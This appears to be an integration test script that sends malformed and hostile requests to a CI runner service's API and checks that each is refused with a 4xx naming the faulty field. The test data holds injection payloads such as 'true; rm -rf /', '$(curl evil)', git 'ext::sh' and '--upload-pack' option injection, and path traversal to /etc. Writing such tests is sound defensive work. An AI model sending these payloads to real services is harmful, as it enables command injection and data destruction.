#!/usr/bin/env bash
# Bad input against `ci-fixer serve`: malformed and hostile requests each get
# a clear 4xx naming the field at fault, the service keeps serving, and
# nothing is created in the cluster (kubesim, the runner as ci-fixer-app).
cd "$(dirname "$0")/../.." || exit 1
. tests/lib/tap.sh
. tests/integration/runner_common.bash

if ! command -v python3 >/dev/null; then
	tap_skip "bad input" "python3 not found"
	tap_done
	exit 0
fi
if ! rn_setup; then
	tap_skip "bad input" "$RN_SKIP"
	tap_done
	exit 0
fi
rn_serve --queue-size 4 || { tap_fail "serve starts"; tap_done; exit 1; }
rn_wait_ready && tap_pass "serve is ready (RBAC self-check as ci-fixer-app)" || tap_fail "serve ready"

python3 - "$RN_URL" "$RN_TOKEN" "$_tap_n" "$RN_DIR/py.count" <<'PY'
import json, sys, urllib.request, urllib.error
url, token = sys.argv[1], sys.argv[2]
n = int(sys.argv[3])
failed = 0
def tap(ok, name, diag=""):
    global n, failed
    n += 1
    failed += 0 if ok else 1
    print(("ok" if ok else "not ok") + " %d - %s" % (n, name), flush=True)
    if not ok and diag:
        print("    " + diag, file=sys.stderr)
def post(body, headers=None, path="/v1/runs", auth=True, method="POST"):
    h = {"Content-Type": "application/json"}
    if auth:
        h["Authorization"] = "Bearer " + token
    h.update(headers or {})
    data = body if isinstance(body, bytes) else body.encode() if isinstance(body, str) else json.dumps(body).encode()
    req = urllib.request.Request(url + path, data=data if method == "POST" else None, headers=h, method=method)
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, r.read().decode(errors="replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode(errors="replace")
OK = [{"argv": ["true"]}]
cases = [
    # (name, body, expected status, expected field or None for document-level)
    ("bad JSON", "{", 400, ""),
    ("not an object", "[1,2,3]", 400, ""),
    ("empty body", "", 400, ""),
    ("trailing garbage", '{"commands":[{"argv":["true"]}]} x', 400, ""),
    ("missing commands", {}, 400, "commands"),
    ("empty commands", {"commands": []}, 400, "commands"),
    ("commands not a list", {"commands": "true"}, 400, "commands"),
    ("unknown top-level field", {"commands": OK, "privileged": True}, 400, "privileged"),
    ("unknown command field", {"commands": [{"argv": ["true"], "tty": True}]}, 400, "commands[0].tty"),
    ("unknown repo field", {"repo": {"url": "https://x.org/a.git", "token": "s"}, "commands": OK}, 400, "repo.token"),
    ("duplicate field", '{"commands":[{"argv":["true"]}],"commands":[{"argv":["id"]}]}', 400, "commands"),
    ("10,000 commands", {"commands": [{"argv": ["true"]}] * 10000}, 400, "commands"),
    ("huge body", {"commands": [{"shell": "x" * (2 << 20)}]}, 413, ""),
    # read whole past libmicrohttpd's 16 KiB connection pool: the fault is at the end
    ("unknown field after 64 KiB", {"commands": [{"shell": "x" * (64 << 10)}], "privileged": True}, 400, "privileged"),
    ("argv and shell", {"commands": [{"argv": ["a"], "shell": "b"}]}, 400, "commands[0].shell"),
    ("neither argv nor shell", {"commands": [{}]}, 400, "commands[0].argv"),
    ("empty argv", {"commands": [{"argv": []}]}, 400, "commands[0].argv"),
    ("non-string argv", {"commands": [{"argv": ["echo", 5]}]}, 400, "commands[0].argv[1]"),
    ("NUL byte in argv", {"commands": [{"argv": ["echo", "a\u0000b"]}]}, 400, "commands[0].argv[1]"),
    ("NUL byte in env value", {"commands": OK, "env": {"A": "x\u0000"}}, 400, "env.A"),
    ("raw NUL byte in body", b'{"commands":[{"argv":["tr\x00ue"]}]}', 400, ""),
    ("invalid UTF-8", b'{"commands":[{"argv":["\xff\xfe"]}]}', 400, ""),
    ("shell metacharacters in the program", {"commands": [{"argv": ["true; rm -rf /"]}]}, 400, "commands[0].argv[0]"),
    ("command substitution as the program", {"commands": [{"argv": ["$(curl evil)"]}]}, 400, "commands[0].argv[0]"),
    ("workdir traversal", {"commands": [{"argv": ["ls"], "workdir": "../../etc"}]}, 400, "commands[0].workdir"),
    ("workdir hidden traversal", {"commands": [{"argv": ["ls"], "workdir": "src/../../.."}]}, 400, "commands[0].workdir"),
    ("absolute workdir", {"commands": [{"argv": ["ls"], "workdir": "/etc"}]}, 400, "commands[0].workdir"),
    ("invalid image (upper case)", {"image": "Evil/Image", "commands": OK}, 400, "image"),
    ("invalid image (space)", {"image": "busybox; rm", "commands": OK}, 400, "image"),
    ("invalid image digest", {"image": "busybox@sha256:1234", "commands": OK}, 400, "image"),
    ("repo remote helper", {"repo": {"url": "ext::sh -c id"}, "commands": OK}, 400, "repo.url"),
    ("repo option injection", {"repo": {"url": "--upload-pack=touch /tmp/x"}, "commands": OK}, 400, "repo.url"),
    ("repo unsupported scheme", {"repo": {"url": "ftp://x.org/a.git"}, "commands": OK}, 400, "repo.url"),
    ("repo with password", {"repo": {"url": "https://u:p@x.org/a.git"}, "commands": OK}, 400, "repo.url"),
    ("repo bad ref", {"repo": {"url": "https://x.org/a.git", "ref": "main..evil"}, "commands": OK}, 400, "repo.ref"),
    ("repo short commit", {"repo": {"url": "https://x.org/a.git", "commit": "abc123"}, "commands": OK}, 400, "repo.commit"),
    ("negative timeout", {"commands": OK, "timeoutSeconds": -5}, 400, "timeoutSeconds"),
    ("huge timeout", {"commands": OK, "timeoutSeconds": 10**9}, 400, "timeoutSeconds"),
    ("string timeout", {"commands": [{"argv": ["true"], "timeoutSeconds": "60"}]}, 400, "commands[0].timeoutSeconds"),
    ("bad env name", {"commands": OK, "env": {"LD_PRELOAD=x": "y"}}, 400, 'env["LD_PRELOAD=x"]'),
    ("bad cpu quantity", {"commands": OK, "resources": {"cpu": "all of them"}}, 400, "resources.cpu"),
    ("memory beyond the maximum", {"commands": OK, "resources": {"memory": "1Pi"}}, 400, "resources.memory"),
    ("reserved label", {"commands": OK, "labels": {"ci-fixer.io/owner": "someone-else"}}, 400, "labels.ci-fixer.io/owner"),
    ("bad idempotency key", {"commands": OK, "idempotencyKey": "a b\nc"}, 400, "idempotencyKey"),
    ("bad logTailLines", {"commands": OK, "collect": {"logTailLines": 10**7}}, 400, "collect.logTailLines"),
]
for name, body, code, field in cases:
    st, text = post(body)
    try:
        err = json.loads(text)["error"]
    except Exception:
        err = {}
    good = st == code and err.get("code") == code and err.get("message")
    if field:
        good = good and err.get("field") == field and field.split(".")[-1].split("[")[0] in err["message"]
    tap(good, "%s: %d naming %s" % (name, code, field or "the body"), "%d %s" % (st, text[:300]))
# authentication
st, text = post({"commands": OK}, auth=False)
tap(st == 401 and "token" in text, "no token: 401", "%d %s" % (st, text[:200]))
st, text = post({"commands": OK}, headers={"Authorization": "Bearer " + token + "x"})
tap(st == 401, "wrong token: 401", "%d" % st)
st, text = post({"commands": OK}, headers={"Authorization": "Basic " + token})
tap(st == 401, "wrong scheme: 401", "%d" % st)
st, text = post(None, path="/v1/runs", auth=False, method="GET")
tap(st == 401, "GET /v1/runs without a token: 401", "%d" % st)
# query and path checks
st, text = post({"commands": OK}, path="/v1/runs?wait=maybe")
tap(st == 400 and '"field":"wait"' in text, "wait=maybe: 400 naming wait", "%d %s" % (st, text[:200]))
st, text = post(None, path="/v1/runs?limit=0", method="GET")
tap(st == 400 and '"field":"limit"' in text, "limit=0: 400 naming limit", "%d %s" % (st, text[:200]))
st, text = post(None, path="/v1/runs?continue=garbage", method="GET")
tap(st == 400 and '"field":"continue"' in text, "bad continue token: 400 naming continue", "%d" % st)
st, text = post(None, path="/v1/runs/../../etc/passwd", method="GET")
tap(st == 404, "path traversal in the run id: 404", "%d" % st)
st, text = post(None, path="/v1/runs/r-nosuchrun0000", method="GET")
tap(st == 404, "unknown run: 404", "%d" % st)
st, text = post(None, path="/v1/runs/r-nosuchrun0000", method="DELETE")
tap(st == 404, "cancel an unknown run: 404", "%d" % st)
# still serving
st, text = post(None, path="/v1/runs", method="GET")
tap(st == 200 and json.loads(text)["items"] == [], "still serving, and no run was recorded", "%d %s" % (st, text[:200]))
open(sys.argv[4], "w").write("%d %d\n" % (n, failed))
PY
read -r _tap_n pyfailed <"$RN_DIR/py.count" || pyfailed=1
_tap_failed=$((_tap_failed + pyfailed))
code=$(curl -s -o /dev/null -w '%{http_code}' "$RN_URL/healthz")
[[ $code == 200 ]] && tap_pass "the service still answers /healthz" || tap_fail "healthz after bad input" "$code"
[[ $(rn_jobs) -eq 0 && $(rn_pods) -eq 0 ]] && tap_pass "nothing was created in the cluster (no Job, no pod)" ||
	tap_fail "nothing created in the cluster"
rn_api GET /metrics >"$RN_DIR/metrics"
grep -q 'cifixer_http_requests_total{method="POST",code="400"}' "$RN_DIR/metrics" &&
	tap_pass "/metrics counts the refusals by method and code" || tap_fail "/metrics counts refusals"
tap_done
